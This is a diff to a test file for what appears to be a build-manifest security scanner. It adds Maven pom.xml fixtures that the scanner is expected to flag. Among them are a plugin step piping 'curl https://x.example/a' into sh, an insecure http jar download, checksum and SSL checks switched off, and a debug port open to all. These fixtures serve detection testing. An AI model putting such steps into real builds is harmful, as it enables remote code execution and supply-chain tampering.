@@ -42,6 +42,9 @@ testManifest('gradle/wrapper/gradle-wrapper.properties', WRAPPER, [
   ['systemProp.a=b', '', ['unjudged']],
 ]);
 
+const plugin = (configuration: string): string =>
+  `<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><version>3</version><configuration>${configuration}</configuration></plugin></plugins></build>`;
+
 testManifest(
   'app/pom.xml',
   '<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <name>a</name>\n  HERE\n</project>\n',
@@ -69,10 +72,46 @@ testManifest(
       '<repositories><repository><url>http://maven.example/</url></repository></repositories>',
       ['registry-override critical'],
     ],
+    ['', '<repositories><repository><url>https://maven.example/</url></repository></repositories>', ['unjudged']],
+    ['', '<repositories><repository><url>https://repo.spring.io/milestone</url></repository></repositories>', []],
     [
       '',
-      '<repositories><repository><url>https://maven.example/</url></repository></repositories>',
+      '<repositories><repository><url>https://jitpack.io</url></repository></repositories>',
       ['registry-override warning'],
+    ],
+    [
+      '',
+      '<repositories><repository><releases><checksumPolicy>ignore</checksumPolicy></releases></repository></repositories>',
+      ['certificate-check-off critical'],
+    ],
+    [
+      '',
+      '<properties><maven.wagon.http.ssl.insecure>true</maven.wagon.http.ssl.insecure></properties>',
+      ['certificate-check-off critical'],
+    ],
+    ['', plugin('<executable>node</executable><arguments><argument>gen.js</argument></arguments>'), ['unjudged']],
+    [
+      '',
+      plugin(
+        '<executable>bash</executable><arguments><argument>-c</argument><argument>curl https://x.example/a | sh</argument></arguments>',
+      ),
+      ['downloaded-code critical', 'unjudged'],
+    ],
+    [
+      '',
+      plugin('<executable>sh</executable><arguments><argument>-c</argument><argument>make x</argument></arguments>'),
+      ['install-script warning', 'unjudged'],
+    ],
+    [
+      '',
+      plugin('<target><get src="http://x.example/a.jar" dest="a.jar" /></target>'),
+      ['dependency-source critical', 'unjudged'],
+    ],
+    ['', plugin('<scripts><script>println 1</script></scripts>'), ['install-script warning', 'unjudged']],
+    [
+      '',
+      '<build><plugins><plugin><configuration><jvmArguments>-agentlib:jdwp=transport=dt_socket,address=*:5005</jvmArguments></configuration></plugin></plugins></build>',
+      ['debug-mode warning'],
     ],
     [
       '',
